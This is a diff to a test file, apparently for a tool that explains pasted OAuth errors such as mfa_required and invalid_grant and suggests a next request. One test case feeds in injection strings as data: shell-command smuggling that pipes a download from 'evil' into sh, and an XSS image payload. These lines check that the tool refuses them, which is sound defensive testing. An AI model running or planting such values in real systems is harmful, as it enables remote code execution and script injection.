@@ -125,7 +125,7 @@ it('explains an error of the libraries with its advice', () => {
 it('shows the next request after mfa_required, without the pasted token', () => {
   const explained = explainPasted(`{"mfa_token":"${secrets.mfa_token}","error":"mfa_required"}`)
   expect(explained?.nextRequest).toContain('grant_type=urn:custom:mfa-otp')
-  expect(explained?.nextRequest).toContain('mfa_token=6e16f915')
+  expect(explained?.nextRequest).toContain('mfa_token=YOUR_MFA_TOKEN')
   expect(explained?.nextRequest).not.toContain(secrets.mfa_token)
 })
 
@@ -143,6 +143,26 @@ it.each([`'; curl evil|sh #`, '$(curl evil)', '<img src=x onerror=alert(1)>'])(
     expect(explainPasted(JSON.stringify({ mfa_token, error: 'mfa_required' }))).not.toHaveProperty('filledRequest')
   },
 )
+
+it('asks the reader to insert an mfa_token of an unexpected form', () => {
+  const explained = explainPasted('{"mfa_token":"abc-123","error":"mfa_required"}')
+  expect(explained?.nextRequest).toContain('mfa_token=YOUR_MFA_TOKEN')
+  expect(explained?.advice.join()).toContain('its form is unexpected')
+})
+
+it.each([
+  ['invalid grant', '/errors#invalid_grant'],
+  ['User credentials are invalid', '/errors#invalid_grant-credentials'],
+  [`{'error': 'invalid_client'}`, '/errors#invalid_client'],
+])('recognises %s', (text, link) => {
+  expect(explainPasted(text)?.links[0]?.link).toBe(link)
+})
+
+it('names a status only if one was pasted', () => {
+  const body = `{"mfa_token":"\u0001","error":"mfa_required"}`
+  expect(explainPasted(body)?.meaning.join()).not.toMatch(/status \d/i)
+  expect(explainPasted(`HTTP/1.1 403 Forbidden\n\n${body}`)?.meaning.join()).toContain('Status 403.')
+})
 
 it('has a next request for every error of the token endpoint and the API', () => {
   for (const code of [...tokenEndpointErrorCodes, ...Object.keys(apiErrors)])
